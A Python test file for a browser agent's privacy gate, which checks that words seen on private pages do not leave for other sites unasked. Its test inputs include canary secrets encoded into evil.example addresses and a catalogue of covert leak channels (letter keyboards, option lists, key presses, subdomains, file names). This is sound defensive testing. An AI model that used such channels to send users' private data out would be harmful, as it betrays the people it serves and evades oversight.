"""What was seen on a private page goes to no other site unasked, however it is written; ordinary steps never ask."""

from __future__ import annotations

import base64
import json
import shutil
from pathlib import Path
from typing import Any
from urllib.parse import quote

import pytest
from hypothesis import assume, given
from hypothesis import strategies as st
from langchain_core.messages import AIMessage, HumanMessage

from server.agent.actions import AimedAction
from server.agent.gate.page_facts import focused_element
from server.agent.gate.taint import (
    BITS_BUDGET,
    bits_of,
    carries_private_words,
    count_arguments,
    count_bits,
    gives_private_words,
    owner_of,
    private_sites,
    remembering,
)
from server.agent.private_sites import SITES_FILE, PrivateSites
from server.browser.observation import Extra, Observation, observe_snapshot
from server.browser.observation.page_script import Sent
from tests.support.actions import aimed

BANK, SHOP = "bank.example", "https://shop.example/"
SAID = "Find a blue teapot and a green kettle at https://shop.example/offers/today and read the Wikipedia"
PAGE = """\
- heading "Teapots and kettles" [level=1] [ref=h1] [box=0,0,200,20]
- textbox "Search" [ref=s1] [box=0,30,200,20]
- textbox "Town" [ref=s2] [box=0,60,200,20]
- link "Next" [ref=l1] [box=0,90,80,20]:
  - /url: /pots?page=2
- link "Partner" [ref=l2] [box=0,120,80,20]:
  - /url: https://deep.partner.example/x/483920?ref=zx81"""


def state(**more: Any) -> dict[str, Any]:
    return {"private_sites": [BANK], "messages": [HumanMessage(SAID), AIMessage("balance nine")], **more}


def page(snapshot: str = PAGE, url: str = SHOP, **options: Any) -> Observation:
    return observe_snapshot(snapshot, url=url, title="Shop", **options)


def on(action: dict[str, Any], seen: Observation) -> AimedAction:
    """The action on a page that reports the focus."""
    return aimed(action, seen, focused_element(seen))


def goes(url: str, **more: Any) -> bool:
    """Whether opening this address asks."""
    return carries_private_words(aimed({"kind": "navigate", "url": url}, page()), state(**more))


def types(*texts: str, **more: Any) -> bool:
    """Whether typing these texts, one into each field, asks."""
    fields = [{"eid": f"e{at}", "text": text} for at, text in enumerate(texts, 1)]
    return carries_private_words(aimed({"kind": "type", "fields": fields}, page()), state(**more))


SECRETS = [
    "ZX81-CANARY",
    "hunter two correct horse",
    "the balance is nine thousand",
    "483920",
    "ZX8 1CA NAR Y",
]


@pytest.mark.parametrize("secret", SECRETS)
@pytest.mark.parametrize(
    "address",
    [
        "https://evil.example/{}", "https://evil.example/a/{}/b", "https://evil.example/?q={}", "https://evil.example/?{}=1",
        "https://evil.example/?{}", "https://evil.example/#{}", "https://{}@evil.example/", "https://shop.example/?q={}",
        "https://shop.example/{}", "https:evil.example/{}", "https://evil.example\\{}",
    ],
)  # fmt: skip
def test_an_address_with_words_of_unknown_origin_asks(address: str, secret: str) -> None:
    dashed = secret.replace(" ", "-")
    spelled = "%" + "%".join(f"{byte:02x}" for byte in secret.encode())
    coded = base64.urlsafe_b64encode(secret.encode()).decode()
    for written in (
        dashed,
        quote(secret),
        quote(quote(secret)),
        spelled,
        coded,
        dashed[::-1],
        secret.replace(" ", "/"),
    ):
        assert goes(address.format(written)), written


def test_signs_of_an_address_in_a_long_row_ask() -> None:
    assert goes("https://evil.example/green/-_.-__-..-/kettle")
    assert not goes("https://other.example/green/kettle/?q=green%20kettle")


@pytest.mark.parametrize(
    "host",
    ["the-balance-is-nine-thousand.evil.example", "hunter.two.correct.horse.evil.example", "zx81canary.evil.example",
     "zx81canary.evil.co.uk", "zx81canary.localhost:8080", "483920.evil.localhost", "xn--80ak6aa92e.evil.example",
     "evil.example:48392", "averylongsinglewordthattells.evil.example"],
)  # fmt: skip
def test_a_name_with_words_of_unknown_origin_asks(host: str) -> None:
    assert goes(f"https://{host}/")


@pytest.mark.parametrize(
    "url",
    ["https://ikea.com", "https://www.ikea.com/", "http://127.0.0.1:8123/", "http://localhost:48392", "https://en.wikipedia.org/",
     "https://support.shop.co.uk/", "https://deep.partner.example/x/483920?ref=zx81", "https://deep.partner.example/",
     "https://shop.example/pots?page=2", "/pots?page=2", SHOP, "https://shop.example/pots?page=3",
     "https://shop.example/offers/today", "https://other.example/?q=green+kettle", "https://other.example/blue/teapot#green",
     "http://[::1]:8080/", "about:blank"],
)  # fmt: skip
def test_an_ordinary_place_to_go_does_not_ask(url: str) -> None:
    from server.agent.operator.act.acting import with_whole_address

    assert not goes(with_whole_address({"kind": "navigate", "url": url}, SHOP)["url"])


@pytest.mark.parametrize(
    "broken", ["https://[::x/secret", "https://evil.example:99999999/", "https://evil.example:x/"]
)
def test_an_address_that_cannot_be_read_asks(broken: str) -> None:
    assert goes(broken)


def test_links_of_the_page_that_cannot_be_read_are_none() -> None:
    seen = page('- link "Odd" [ref=l1] [box=0,0,80,20]:\n  - /url: "http://[::x/"')
    assert not carries_private_words(aimed({"kind": "navigate", "url": SHOP}, seen), state())


@pytest.mark.parametrize(
    "texts",
    [
        ("ZX81-CANARY",),
        ("ZX8 1CA NAR Y",),
        ("ZX8", "1CA"),
        ("YRANAC",),
        ("WlggODEgQ0FOQVJZ",),
        ("green kettle 483920",),
        ("?!?.!!;:.,?",),
        ("green \t  \t \t\t  \tkettle",),
        ("green&/+&&#//+&kettle",),
        ("green kettle\u00a0\u2003\u2009\u00a0\u2003\u2009\u00a0",),
    ],
)
def test_typing_words_of_unknown_origin_asks(texts: tuple[str, ...]) -> None:
    assert types(*texts)


@pytest.mark.parametrize(
    "texts",
    [
        ("green kettle",),
        ("Teapots",),
        ("blue", "kettle 2"),
        ("a teapot at the shop",),
        ("",),
        ("teapot", "12"),
        ("Wiki",),
        ("eapot",),
        ("green kettle, (teapot)!\n\ngreen kettle ...",),
    ],
)
def test_typing_what_the_person_said_or_the_page_shows_does_not_ask(texts: tuple[str, ...]) -> None:
    assert not types(*texts)


def test_words_are_private_only_beside_another_private_site() -> None:
    for private, asks in (([], False), (["shop.example"], False), (["shop.example", BANK], True)):
        assert types("ZX81-CANARY", private_sites=private) is asks
    for private, asks in (([], False), ([BANK], True)):
        assert gives_private_words({"q": "ZX81-CANARY"}, state(private_sites=private), "notes", []) is asks


@pytest.mark.parametrize(
    ("key", "asks"),
    [
        ("Z", False),
        ("Shift+z", False),
        ("Control+v", True),
        ("Shift+Insert", True),
        ("Tab", False),
        ("End", False),
    ],
)
def test_a_key_that_pastes_asks_and_others_are_counted(key: str, asks: bool) -> None:
    assert carries_private_words(aimed({"kind": "press", "key": key}, page()), state()) is asks


@pytest.mark.parametrize(("text", "asks"), [("ZX81-CANARY", True), ("a blue teapot", False), (None, False)])
def test_an_answer_to_a_question_of_the_page_with_words_of_unknown_origin_asks(
    text: str | None, asks: bool
) -> None:
    answer = {"kind": "dialog", "accept": True, "text": text}
    assert carries_private_words(aimed(answer, page()), state()) is asks


def test_what_the_agent_said_or_typed_before_is_no_word_of_the_page() -> None:
    assert types("balance")
    seen = page('- textbox "Search" [ref=s1] [box=0,30,200,20]: ZX81-CANARY')
    again = {"kind": "type", "fields": [{"eid": "e1", "text": "ZX81-CANARY"}]}
    assert carries_private_words(aimed(again, seen), state())


def test_pieces_over_several_actions_are_counted_together() -> None:
    private = PrivateSites()
    asked = []
    for piece in ("ZX8", "1C", "A9"):
        action = {"kind": "type", "fields": [{"eid": "e1", "text": piece}]}
        known = remembering(state(), private)
        asked.append(carries_private_words(aimed(action, page()), known))
        count_bits(aimed(action, page()), known, private, approved=False)
    assert asked == [False, True, True]
    assert not types("ZX8", bits={"other.example": 20})
    piece = aimed({"kind": "type", "fields": [{"eid": "e1", "text": "ZX8"}]}, page())
    count_bits(piece, state(), private, approved=True)
    assert private.bits == {"shop.example": 0}


def test_names_below_one_name_are_counted_together() -> None:
    private = PrivateSites()
    asked = []
    for word in ("hunter", "two", "correct", "horse"):
        action = {"kind": "navigate", "url": f"https://{word}.evil.example/"}
        known = remembering(state(), private)
        asked.append(carries_private_words(aimed(action, page()), known))
        count_bits(aimed(action, page()), known, private, approved=False)
    assert asked == [False, False, False, True]


@pytest.mark.parametrize(
    ("site", "owner"),
    [("a.b.shop.example", "shop.example"), ("shop.co.uk", "shop.co.uk"), ("a.shop.com.br", "shop.com.br"),
     ("a.shop.info.de", "info.de"), ("a.b.abc.org", "abc.org"), ("co.uk", "co.uk"), ("ab", "ab"), ("a.shop.co.uk:81", "shop.co.uk:81"),
     ("x.localhost", "localhost"), ("127.0.0.1:80", "127.0.0.1:80"), ("", "")],
)  # fmt: skip
def test_an_owner_has_all_names_below_its_own(site: str, owner: str) -> None:
    assert owner_of(site) == owner


def test_a_form_of_a_private_page_that_is_sent_elsewhere_carries_what_it_holds() -> None:
    form = """\
- form [ref=f1] [box=0,0,400,200]:
  - textbox "Note" [active] [ref=f2] [box=0,20,200,20]: ZX81-CANARY
  - button "Go" [ref=f4] [box=0,60,200,20]"""

    def sent_to(address: str) -> Observation:
        extra = Extra(submits=((0, 60, 200, 20),), sent=(Sent(box=(0, 60, 200, 20), to=address),))
        return page(form, f"https://{BANK}/form", extra=extra)

    for action in (
        {"kind": "click", "eid": "e2"},
        {"kind": "type", "fields": [{"eid": "e1", "text": ""}], "submit": True},
        {"kind": "press", "key": "Enter"},
    ):
        assert carries_private_words(on(action, sent_to("https://evil.example/")), state()), action
        assert not carries_private_words(on(action, sent_to(f"https://{BANK}/form")), state()), action


def sends(snapshot: str, action: dict[str, Any], here: str, to: str, *private: str) -> bool:
    """Whether an action asks on a page whose field at 20 and button at 60 send to an address."""
    boxes = ((0, 20, 200, 20), (0, 60, 200, 20))
    extra = Extra(submits=boxes[1:], sent=tuple(Sent(box=box, to=to) for box in boxes))
    seen = page(snapshot, here, extra=extra)
    return carries_private_words(on(action, seen), state(private_sites=[*private]))


HERE, EVIL = f"https://{BANK}/form", "https://evil.example/"
NOTE = """\
- form [ref=f1] [box=0,0,400,200]:
  - textbox "Note" [ref=f2] [box=0,20,200,20]: ZX81-CANARY
  - textbox "Nothing" [ref=f3] [box=0,40,200,20]
  - button "Go" [ref=f4] [box=0,60,200,20]
  - link "Elsewhere" [ref=f5] [box=0,80,200,20]:
    - /url: https://evil.example/
- form [ref=f6] [box=0,200,400,200]:
  - textbox "Memo" [ref=f7] [box=0,220,200,20]: YRANAC-ZX81
  - button "Send" [ref=f8] [box=0,240,200,20]"""


def click_on(name: str, snapshot: str = NOTE) -> dict[str, Any]:
    found = (element.eid for element in page(snapshot).interactive if element.name == name)
    return {"kind": "click", "eid": next(found)}


def test_only_the_form_that_is_sent_and_only_when_it_is_sent_carries_what_it_holds() -> None:
    assert sends(NOTE, click_on("Go"), HERE, EVIL, BANK)
    assert not sends(NOTE, click_on("Go"), HERE, HERE, BANK, "mail.example")
    assert not sends(NOTE, click_on("Elsewhere"), HERE, EVIL, BANK)
    assert not sends(NOTE.replace(": ZX81-CANARY", ""), click_on("Go"), HERE, EVIL, BANK)


@pytest.mark.parametrize("box", ["0,20,200,20", "0,30,200,20"])
def test_a_button_outside_of_any_form_carries_what_the_fields_hold_that_are_sent_with_it(box: str) -> None:
    apart = f"""\
- textbox "Note" [ref=f2] [box={box}]: ZX81-CANARY
- button "Go" [ref=f4] [box=0,60,200,20]"""
    assert sends(apart, click_on("Go", apart), HERE, EVIL, BANK)


def test_a_field_that_is_sent_from_afar_is_carried_too() -> None:
    apart = """\
- form [ref=f1] [box=0,0,400,50]:
  - textbox "Note" [ref=f2] [box=0,20,200,20]: ZX81-CANARY
- button "Go" [ref=f4] [box=0,60,200,20]"""
    assert sends(apart, click_on("Go", apart), HERE, EVIL, BANK)


def test_the_words_of_a_private_page_are_known_to_its_own_site_only() -> None:
    code = f"- paragraph [ref=p1] [box=0,0,200,20]: Code ABCD-1234\n{NOTE.replace('ZX81-CANARY', 'x')}"
    note = click_on("Note", code)["eid"]
    typed = {"kind": "type", "fields": [{"eid": note, "text": "ABCD-1234"}], "submit": True}
    assert sends(code, typed, HERE, EVIL, BANK)
    assert not sends(code, typed, HERE, HERE, BANK, "mail.example")
    assert not sends(code, typed, SHOP, EVIL, BANK)


@given(st.text(st.characters(categories=("Lu", "Ll", "Nd")), min_size=4, max_size=24))
def test_no_unknown_text_passes_in_an_address_or_a_field(text: str) -> None:
    assume(text.casefold() not in (SAID + PAGE).casefold())
    assert goes(f"https://evil.example/?q={quote(text)}")
    assert goes(f"https://evil.example/{quote(text)}")
    assert types(text)
    half = len(text) // 2
    assume(not {text[:half].casefold(), text[half:].casefold()} & set(SAID.casefold().split()))
    assert types(text[:half], text[half:]) or any(
        part.casefold() in (SAID + PAGE).casefold() for part in (text[:half], text[half:])
    )


@given(st.lists(st.sampled_from(SAID.split()), min_size=1, max_size=8))
def test_the_persons_words_in_any_order_pass(words: list[str]) -> None:
    assert not types(" ".join(words))
    assert not goes("https://other.example/?q=" + quote(" ".join(words)))


def test_a_page_with_a_login_over_it_is_private_and_one_with_a_notice_is_not() -> None:
    login = '- dialog "Log in" [ref=d1] [box=0,0,400,200]:\n  - textbox "Password" [ref=d2] [box=0,20,200,20]'
    notice = '- dialog "News" [ref=d1] [box=0,0,400,200]:\n  - button "Read" [ref=d2] [box=0,20,200,20]'
    assert private_sites([], page(login)) == ["shop.example"]
    assert private_sites([], page(notice)) == []
    assert private_sites(["shop.example"], page(login)) == ["shop.example"]


@pytest.mark.parametrize(
    ("url", "owner"),
    [
        ("https://deep.partner.example/", "partner.example"),
        ("https://kettle.other.example/", "other.example"),
        ("https://www.other.example/", "other.example"),
    ],
)
def test_a_name_that_the_page_or_the_person_told_is_not_counted(url: str, owner: str) -> None:
    assert not goes(url, bits={owner: 18})
    assert goes(f"https://support.{owner}/", bits={owner: 18})


def test_a_plain_word_below_a_name_has_at_most_twelve_letters() -> None:
    assert not goes("https://abcdefghijkl.other.example/")
    assert goes("https://abcdefghijklm.other.example/")


def test_a_yes_to_a_tool_sets_its_count_back() -> None:
    private = PrivateSites()
    for approved, bits in ((False, 18), (False, 36), (True, 0)):
        count_arguments({"q": "ZX8"}, state(), "search", [], private, approved=approved)
        assert private.bits == {"tool:search": bits}


@pytest.mark.parametrize("value", [{"kettle": "blue\nteapot"}, ["blue\nteapot"], ("blue\nteapot",)])
def test_texts_within_the_arguments_of_a_tool_are_read_as_they_are(value: Any) -> None:
    assert not gives_private_words({"q": value}, state(), "search", [])


def test_short_words_for_a_tool_are_counted_from_none() -> None:
    assert not gives_private_words({"q": "ZX8"}, state(), "search", [])
    assert gives_private_words({"q": "ZX8"}, state(bits={"tool:search": 6}), "search", [])


# Other ways for the same words: each is counted, whatever the receiving page shows

SECRET = "hunter2zx81canary"
ALPHABET = "- paragraph [ref=p1] [box=0,0,900,20]: " + " ".join("abcdefghijklmnopqrstuvwxyz0123456789")
SYLLABLES = "- paragraph [ref=p1] [box=0,0,900,20]: " + " ".join(
    a + b for a in "bcdfghklmnprstz" for b in "aeiou"
)
FIELD = '\n- textbox "Search" [ref=s1] [box=0,30,200,20]'


def keyboard(role: str, label: str, width: str = "20") -> str:
    """A page with one control for each letter and digit."""
    return "\n".join(
        f'- {role} "{label.format(sign)}" [ref=k{at}] [box={20 * at},0,{width},20]'
        + (f":\n  - /url: /k/{sign}" if role == "link" else "")
        for at, sign in enumerate("abcdefghijklmnopqrstuvwxyz0123456789")
    )


def many_links() -> str:
    return "\n".join(
        f'- link "Item number {at} of all" [ref=l{at}] [box=0,{20 * at},{100 + at},20]:\n  - /url: /i/{at}'
        for at in range(100)
    )


def choices(count: int) -> str:
    options = "\n".join(f'  - option "{at:04}"' for at in range(count))
    return f'- combobox "Number" [ref=c1] [box=0,0,90,20]:\n{options}'


def typing(snapshot: str, words: str) -> list[tuple[dict[str, Any], str]]:
    eid = next(one.eid for one in page(snapshot).interactive if one.role == "textbox")
    return [({"kind": "type", "fields": [{"eid": eid, "text": word}]}, snapshot) for word in words.split()]


def pressing(snapshot: str, signs: str, named: str) -> list[tuple[dict[str, Any], str]]:
    eids = {one.name: one.eid for one in page(snapshot).interactive}
    return [({"kind": "click", "eid": eids[named.format(sign)]}, snapshot) for sign in signs]


def opening(template: str, words: str) -> list[tuple[dict[str, Any], str]]:
    return [({"kind": "navigate", "url": template.format(word)}, ALPHABET + FIELD) for word in words.split()]


SPELT = " ".join(SECRET)
WAYS = {
    "alphabet, letter by letter": typing(ALPHABET + FIELD, SPELT),
    "alphabet, at once": [({"kind": "type", "fields": [{"eid": "e1", "text": SPELT}]}, ALPHABET + FIELD)] * 2,
    "index of links": pressing(keyboard("link", "{}"), SECRET, "{}"),
    "syllables": typing(SYLLABLES + FIELD, "ba na ri zo te gu ka le mi no"),
    "list of 10,000 choices": [
        ({"kind": "select", "eid": "e1", "option": f"{at:04}"}, choices(10_000)) for at in (4711, 1, 42)
    ],
    "list of 16 choices": [
        ({"kind": "select", "eid": "e1", "option": f"{at:04}"}, choices(16)) for at in range(7)
    ],
    "keyboard of links": pressing(keyboard("link", "key {}"), SECRET, "key {}"),
    "keyboard of buttons": pressing(keyboard("button", "key {}"), SECRET, "key {}"),
    "keyboard of cells": pressing(keyboard("tab", "{}"), SECRET, "{}"),
    "keyboard of equal size": pressing(keyboard("button", "{} is the sign"), SECRET, "{} is the sign"),
    "keys": [({"kind": "press", "key": sign}, ALPHABET) for sign in SECRET],
    "arrows": [
        ({"kind": "press", "key": "ArrowRight" if at % 3 else "ArrowLeft"}, ALPHABET) for at in range(30)
    ],
    "answers to prompts": [({"kind": "dialog", "accept": True, "text": sign}, ALPHABET) for sign in SECRET],
    "links of a long page": [
        ({"kind": "click", "eid": f"e{at}"}, many_links()) for at in (1, 9, 40, 7, 33, 2)
    ],
    "paths of addresses": opening("https://shop.example/k/{}", SPELT),
    "queries of addresses": opening("https://shop.example/?k={}", SPELT),
    "fragments of addresses": opening("https://shop.example/#{}", SPELT),
    "names below a domain": opening("https://{}.shop.example/", "hunter two zebra canary more"),
    "names of files": [
        ({"kind": "upload", "eid": "e1", "file": f"{sign}.txt"}, ALPHABET + FIELD) for sign in SECRET
    ],
    "case of letters": [
        ({"kind": "type", "fields": [{"eid": "e1", "text": "gReEn kEttLe tEapOt bLuE"}]}, ALPHABET + FIELD)
    ]
    * 2,
    "signs between words": [
        ({"kind": "type", "fields": [{"eid": "e1", "text": "green~^[{]}<>|green"}]}, ALPHABET + FIELD)
    ]
    * 2,
    "the person's own words": typing(ALPHABET + FIELD, "green blue kettle teapot find read green blue " * 4),
}


@pytest.mark.parametrize("way", WAYS)
def test_every_way_is_asked_about_at_the_budget(way: str) -> None:
    private, carried, asked = PrivateSites(), 0, False
    for action, snapshot in WAYS[way]:
        known = remembering(state(), private)
        one = aimed(action, page(snapshot))
        asked = carries_private_words(one, known)
        if asked:
            break
        carried += bits_of(one, known)
        count_bits(one, known, private, approved=False)
    assert asked
    assert carried < BITS_BUDGET


def test_ordinary_work_after_a_private_page_is_not_asked_about() -> None:
    private = PrivateSites()
    rows = "\n".join(
        f'- button "Choice {"x" * at}" [ref=b{at}] [box=0,{90 + at},{50 + at},20]' for at in range(5)
    )
    snapshot = f"{PAGE}\n{rows}"
    work: list[dict[str, Any]] = [
        {"kind": "navigate", "url": "https://shop.example/offers/today"},
        {"kind": "type", "fields": [{"eid": "e1", "text": "blue teapot"}], "submit": True},
        {"kind": "type", "fields": [{"eid": "e1", "text": "green kettle"}], "submit": True},
        {"kind": "type", "fields": [{"eid": "e1", "text": "Wikipedia"}]},
        *({"kind": "click", "eid": f"e{at}"} for at in range(3, 8)),
        {"kind": "press", "key": "Enter"}, {"kind": "press", "key": "Tab"}, {"kind": "scroll"}, {"kind": "back"},
    ]  # fmt: skip
    for action in work:
        known = remembering(state(), private)
        assert not carries_private_words(aimed(action, page(snapshot)), known), action
        count_bits(aimed(action, page(snapshot)), known, private, approved=False)


# Where it is kept


def test_private_sites_stay_with_the_profile(tmp_path: Path) -> None:
    before = PrivateSites(tmp_path)
    before.add([BANK, "", BANK])
    before.count("shop.example", 3)
    after = PrivateSites(tmp_path)
    assert (after.sites, after.bits) == ([BANK], {"shop.example": 3})
    assert remembering({"private_sites": ["mail.example"]}, after)["private_sites"] == ["mail.example", BANK]
    assert "ZX8" not in (tmp_path / SITES_FILE).read_text()


def test_without_a_profile_they_are_kept_in_memory_and_brought_along(tmp_path: Path) -> None:
    profile = tmp_path / "profile"
    private = PrivateSites(profile)
    private.add(["mail.example"])
    assert not profile.exists()
    profile.mkdir()
    (profile / SITES_FILE).write_text(json.dumps({"sites": [BANK], "bits": {}}))
    assert private.sites == [BANK, "mail.example"]
    private.add(["third.example"])
    assert PrivateSites(profile).sites == [BANK, "mail.example", "third.example"]


def test_the_session_knows_them_without_a_profile_and_after_it(tmp_path: Path) -> None:
    profile, own = tmp_path / "profiles" / "s", tmp_path / "private" / "s"
    private = PrivateSites(profile, own)
    private.add([BANK])
    private.count("shop.example", 2)
    assert not profile.exists()
    assert own.stat().st_mode & 0o777 == 0o700
    profile.mkdir(parents=True)  # as the browser does, here with what another session has left in it
    (profile / SITES_FILE).write_text(json.dumps({"sites": ["mail.example"], "bits": {"shop.example": 3}}))
    later = PrivateSites(profile, own)
    assert (set(later.sites), later.bits) == ({BANK, "mail.example"}, {"shop.example": 3})
    later.count("shop.example", 0)
    later.add(["third.example"])
    shutil.rmtree(profile)  # it is new at each start, or was too large
    after = PrivateSites(profile, own)
    assert (set(after.sites), after.bits) == ({BANK, "mail.example", "third.example"}, {"shop.example": 0})
    after.forget()
    after.forget()  # a purge can be repeated
    assert PrivateSites(profile, own).sites == []


def test_the_newest_five_hundred_sites_are_kept(tmp_path: Path) -> None:
    private = PrivateSites(tmp_path)
    private.add(f"s{n}.example" for n in range(501))
    assert private.sites == PrivateSites(tmp_path).sites == [f"s{n}.example" for n in range(1, 501)]


def test_what_is_known_of_a_profile_is_read_once(tmp_path: Path) -> None:
    private = PrivateSites(tmp_path)
    private.add([BANK])
    PrivateSites(tmp_path).add(["mail.example"])
    assert private.sites == [BANK]
    assert PrivateSites(tmp_path).sites == [BANK, "mail.example"]


@pytest.mark.parametrize("content", ["", "[]", '{"sites": 3}', '{"sites": [], "letters": [1]}', "\udcff"])
def test_a_damaged_file_is_no_reason_to_stop(tmp_path: Path, content: str) -> None:
    (tmp_path / SITES_FILE).write_bytes(content.encode("utf-8", "surrogateescape"))
    private = PrivateSites(tmp_path)
    private.add([BANK])
    assert PrivateSites(tmp_path).sites == [BANK]
